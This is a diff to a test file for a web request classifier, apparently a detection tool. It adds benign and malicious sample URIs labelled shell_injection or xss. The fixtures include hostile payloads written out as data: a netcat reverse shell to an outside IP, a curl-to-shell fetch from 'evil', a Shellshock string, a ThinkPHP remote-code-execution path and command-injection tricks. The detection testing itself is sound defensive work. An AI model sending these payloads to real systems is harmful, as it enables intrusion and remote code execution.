@@ -18,6 +18,9 @@ const classesOf = (change: Partial<AccessRecord>): SuspicionClass[] =>
   });
 
 const ordinary = [
+  '/guide/bin/sh/3',
+  '/man/1/bin/bash',
+  '/search?q=what+is+%3Cscript%3E+for',
   '/',
   '/blog/select-a-plan-from-our-union',
   '/search?q=drop+table+saw',
@@ -175,6 +178,10 @@ const suspicious: readonly (readonly [uri: string, name: SuspicionClass])[] = [
   ['/?x=() { :;}; /bin/bash -c id', 'shell_injection'],
   ['/?c=cmd.exe /c dir', 'shell_injection'],
   ['/?c=;${IFS}cat', 'shell_injection'],
+  ['/?c=/bin/sh', 'shell_injection'],
+  ['/?c=nc+-e+/usr/bin/bash+203.0.113.7', 'shell_injection'],
+  ['/?q=<script>', 'xss'],
+  ['/?q=<script>%20x()', 'xss'],
   ['/?c=a;curl+http://evil|sh', 'shell_injection'],
   ['/?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system', 'shell_injection'],
   ['/?c=%0aid', 'shell_injection'],
